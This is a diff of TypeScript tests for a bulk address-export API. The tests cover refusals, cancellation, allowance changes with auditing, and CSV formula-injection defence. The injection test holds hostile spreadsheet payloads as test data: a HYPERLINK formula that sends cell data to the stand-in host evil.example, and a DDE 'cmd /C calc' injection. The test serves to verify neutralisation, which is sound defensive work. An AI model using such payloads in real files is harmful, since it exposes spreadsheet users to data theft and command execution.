@@ -117,6 +117,43 @@ describe('POST /v1/exports refusals', () => {
     expect(res.body.error).toMatch(/bulk_export/);
   });
 
+  it('402 bulk_export_required before the body is read: malformed bodies get it too, the same for any body', async () => {
+    const key = await exportKey({ capabilities: [] });
+    const malformed: unknown[] = [{}, { selection: { type: 'planet' } }, { selection: 'Huntly' }, { layers: 7 }];
+    const answers = [];
+    for (const body of malformed) answers.push(await submit(key, body));
+    answers.push(
+      await request(t.app)
+        .post('/v1/exports')
+        .set('Authorization', `Bearer ${key.secret}`)
+        .set('Content-Type', 'text/plain')
+        .send('selection=suburb'),
+    );
+    for (const res of answers) {
+      expect(res.status, res.text).toBe(402);
+      expect(res.body).toMatchObject({ success: false, code: 'bulk_export_required' });
+    }
+    // one answer whatever the body: nothing of it shows through
+    expect(new Set(answers.map((res) => JSON.stringify(res.body))).size).toBe(1);
+  });
+
+  it('400 for the same malformed bodies from a key that holds bulk_export', async () => {
+    const key = await exportKey();
+    for (const body of [{}, { selection: { type: 'planet' } }, { selection: 'Huntly' }, { layers: 7 }]) {
+      const res = await submit(key, body);
+      expect(res.status, res.text).toBe(400);
+      expect(res.body.success).toBe(false);
+      expect(res.body.code).toBeUndefined();
+    }
+    const text = await request(t.app)
+      .post('/v1/exports')
+      .set('Authorization', `Bearer ${key.secret}`)
+      .set('Content-Type', 'text/plain')
+      .send('selection=suburb');
+    expect(text.status).toBe(400);
+    expect(text.body.error).toMatch(/as JSON/);
+  });
+
   it('400 naming the non-exportable products asked for as layers', async () => {
     const key = await exportKey();
     const res = await submit(key, {
@@ -329,6 +366,53 @@ describe('an export from submit to CSV', () => {
   });
 });
 
+describe('formula injection', () => {
+  it("neutralises an address list's hostile input text in the CSV; coordinates stay numeric", async () => {
+    const key = await exportKey();
+    const [known] = await db.query<{ formatted_address: string; gnaf_pid: string }>(
+      `SELECT formatted_address, gnaf_pid FROM address.address_detail WHERE dataset = 'sandbox' AND state = 'VIC'
+         AND geom IS NOT NULL AND flat_number IS NULL ORDER BY gnaf_pid LIMIT 1`,
+    );
+    const hostile = ['=HYPERLINK("http://evil.example/?d="&B2,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1 Main St'];
+    const addresses = [...hostile, known!.formatted_address];
+    const res = await submit(key, { selection: { type: 'addresses', addresses }, layers: ['parcel'] });
+    expect(res.status, res.text).toBe(202);
+    await drain();
+    const { header, rows } = await csvOf(key, res.body.jobId as string);
+    expect(header).toEqual(res.body.header);
+    expect(rows.map((r) => r.input_address)).toEqual([...hostile.map((h) => `'${h}`), known!.formatted_address]);
+    expect(rows[3]).toMatchObject({ gnaf_pid: known!.gnaf_pid, parcel_status: 'ok' });
+    expect(rows[3]!.latitude).toMatch(/^-\d+\.\d+$/);
+    // no cell of the file starts a formula, unless it is a plain number
+    for (const row of rows)
+      for (const cell of Object.values(row))
+        expect(/^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell), cell).toBe(false);
+  });
+});
+
+describe('a cancelled export', () => {
+  it("drops its targets (an address list's texts) at once, and is charged no rows", async () => {
+    const key = await exportKey();
+    const res = await submit(key, {
+      selection: { type: 'addresses', addresses: ['1 Private Lane Secretville VIC 3999', '2 Private Lane'] },
+      layers: ['parcel'],
+    });
+    expect(res.status, res.text).toBe(202);
+    const id = res.body.jobId as string;
+    const targets = async () =>
+      (await db.query<{ n: number }>(`SELECT count(*)::int n FROM platform.export_target WHERE job_id = $1`, [id]))[0]!
+        .n;
+    expect(await targets()).toBe(2);
+    const cancelled = await request(t.app).post(`/v1/jobs/${id}/cancel`).set('Authorization', `Bearer ${key.secret}`);
+    expect(cancelled.status, cancelled.text).toBe(200);
+    expect(cancelled.body.job.state).toBe('cancelled');
+    expect(await targets()).toBe(0);
+    await drain();
+    expect((await getJob(db, id))!.state).toBe('cancelled');
+    expect((await get(key, '/v1/exports/usage')).body).toMatchObject({ used: 0 });
+  });
+});
+
 describe('ownership, metering and events', () => {
   it("answers 404 for another account's export on every route", async () => {
     const owner = await exportKey();
@@ -409,6 +493,37 @@ describe('the allowance setting', () => {
       used: 0,
     });
     await expect(exportKey({ exportRowsMonthly: -1 })).rejects.toMatchObject({ status: 400 });
+  });
+
+  it('is changed after creation: the next submit is checked against it, and the change is audited', async () => {
+    const key = await exportKey({ exportRowsMonthly: 1 });
+    const list = (n: number) => ({
+      selection: { type: 'addresses', addresses: Array.from({ length: n }, (_, i) => `${i + 1} Nowhere St`) },
+      layers: ['parcel'],
+    });
+    expect((await submit(key, list(2))).body).toMatchObject({ code: 'bulk_export_allowance_exhausted', allowance: 1 });
+    expect((await t.runtime.keys.setExportAllowance(key.id, 3)).exportRowsMonthly).toBe(3);
+    expect((await submit(key, list(2))).status).toBe(202);
+    expect((await get(key, '/v1/exports/usage')).body).toMatchObject({ allowance: 3, used: 2, remaining: 1 });
+    // lowered below what the month has used: nothing remains, and nothing already exported is undone
+    await t.runtime.keys.setExportAllowance(key.id, 0);
+    expect((await get(key, '/v1/exports/usage')).body).toMatchObject({ allowance: 0, used: 2, remaining: 0 });
+    expect((await t.runtime.keys.setExportAllowance(key.id, null)).exportRowsMonthly).toBeNull();
+    expect((await get(key, '/v1/exports/usage')).body).toMatchObject({ allowance_source: 'default' });
+    const audit = await db.query<{ detail: unknown }>(
+      `SELECT detail FROM platform.audit_log WHERE key_id = $1 AND action = 'key.export_allowance_changed' ORDER BY id`,
+      [key.id],
+    );
+    expect(audit.map((a) => a.detail)).toEqual([
+      { from: 1, to: 3 },
+      { from: 3, to: 0 },
+      { from: 0, to: null },
+    ]);
+    await expect(t.runtime.keys.setExportAllowance(key.id, -1)).rejects.toMatchObject({ status: 400 });
+    await expect(t.runtime.keys.setExportAllowance(key.id, 2 ** 31)).rejects.toMatchObject({ status: 400 });
+    await expect(t.runtime.keys.setExportAllowance('key_missing', 5)).rejects.toMatchObject({ status: 404 });
+    await t.runtime.keys.revoke(key.id);
+    await expect(t.runtime.keys.setExportAllowance(key.id, 5)).rejects.toMatchObject({ status: 400 });
   });
 });
 
